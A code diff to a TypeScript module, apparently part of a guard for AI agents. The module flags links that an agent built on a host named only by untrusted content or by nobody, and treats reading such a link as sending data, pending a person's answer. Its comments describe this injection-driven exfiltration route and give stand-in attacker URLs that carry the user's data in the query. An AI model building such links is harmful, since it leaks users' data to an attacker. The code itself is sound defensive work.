@@ -1,7 +1,8 @@
 /**
- * Exfiltration through a read: a link the agent built on a host that only untrusted text named. Reading a page
- * changes nothing, but a link carries whatever the agent writes into it to that host
- * (`https://attacker.example/log?d=<the user's data>`), so such a read is judged like a send.
+ * Exfiltration through a read: a link the agent built on a host that only untrusted text named, or (with
+ * `provenance.unknown: ask`) that nobody named. Reading a page changes nothing, but a link carries whatever the
+ * agent writes into it to that host (`https://attacker.example/log?d=<the user's data>`), so such a read is
+ * judged like a send.
  */
 import type { PieceProvenance } from "./provenance.js";
 import { urlHost } from "./value-tokens.js";
@@ -19,13 +20,15 @@ function samePath(a: readonly (string | number)[], b: readonly (string | number)
 
 /**
  * The links among `pieces` that nobody supplied (`unknown`: the agent wrote them), that carry a path or a
- * query, and whose host only untrusted content holds (`tainted`). A link without a scheme
- * (`attacker.example/verify?p=…`, a whole argument) has its host judged by `hostStatus`. Each is returned as
- * a tainted `url` piece with its host's untrusted sources, for the question a person answers.
+ * query, and whose host has provenance `status`: `tainted` (only untrusted content named it) or `unknown`
+ * (nobody did). A link without a scheme (`attacker.example/verify?p=…`, a whole argument) has its host judged
+ * by `hostStatus`. Each is returned as a `url` piece with its host's provenance, for the question a person
+ * answers.
  */
-export function builtLinksToUntrustedHosts(
+export function builtLinks(
   pieces: readonly PieceProvenance[],
   hostStatus: (host: string) => PieceProvenance | undefined,
+  status: "tainted" | "unknown",
 ): PieceProvenance[] {
   const out: PieceProvenance[] = [];
   for (const link of pieces) {
@@ -38,7 +41,7 @@ export function builtLinksToUntrustedHosts(
         : link.kind === "value" && !/^[a-z][a-z0-9+.-]*:\/\//i.test(link.piece)
           ? hostStatus(host)
           : undefined;
-    if (named?.status === "tainted") out.push({ ...named, path: link.path, kind: "url", piece: link.piece });
+    if (named?.status === status) out.push({ ...named, path: link.path, kind: "url", piece: link.piece });
   }
   return out;
 }
